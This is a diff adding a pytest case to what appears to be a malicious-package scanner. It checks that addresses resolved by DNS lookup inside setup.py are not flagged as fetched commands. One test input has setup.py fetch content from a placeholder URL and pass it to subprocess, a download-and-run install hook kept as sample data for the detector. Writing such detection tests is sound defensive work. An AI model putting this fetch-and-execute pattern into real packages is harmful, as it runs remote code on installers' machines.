@@ -140,3 +140,25 @@ def test_own_host_name_as_address_is_not_exfiltration(
     findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
     worst = _worst(findings, "hook/env-exfiltration")
     assert (worst is not None and worst >= Severity.HIGH) is blocked
+
+
+@pytest.mark.parametrize(
+    ("fetch", "blocked"),
+    [
+        # ray's symmetric_run: the head's address, resolved, goes into `ray start`
+        ("socket.getaddrinfo(host, 6379)[0][4][0]", False),
+        ("socket.gethostbyname(host)", False),
+        # content fetched over the network and run is still that
+        ("urllib.request.urlopen('https://example.invalid/c').read().decode()", True),
+    ],
+    ids=["getaddrinfo", "gethostbyname", "urlopen"],
+)
+def test_an_address_from_the_resolver_is_not_a_fetched_command(
+    tmp_path: Path, fetch: str, blocked: bool
+) -> None:
+    setup = ("import socket, subprocess, urllib.request\nfrom setuptools import setup\n"
+             f"host = 'head.example.invalid'\nresolved = {fetch}\n"
+             "subprocess.run(['echo', f'--node-ip-address={resolved}'])\nsetup()\n")
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", {"setup.py": setup}))
+    worst = _worst(findings, "hook/download-exec")
+    assert (worst is not None and worst >= Severity.HIGH) is blocked
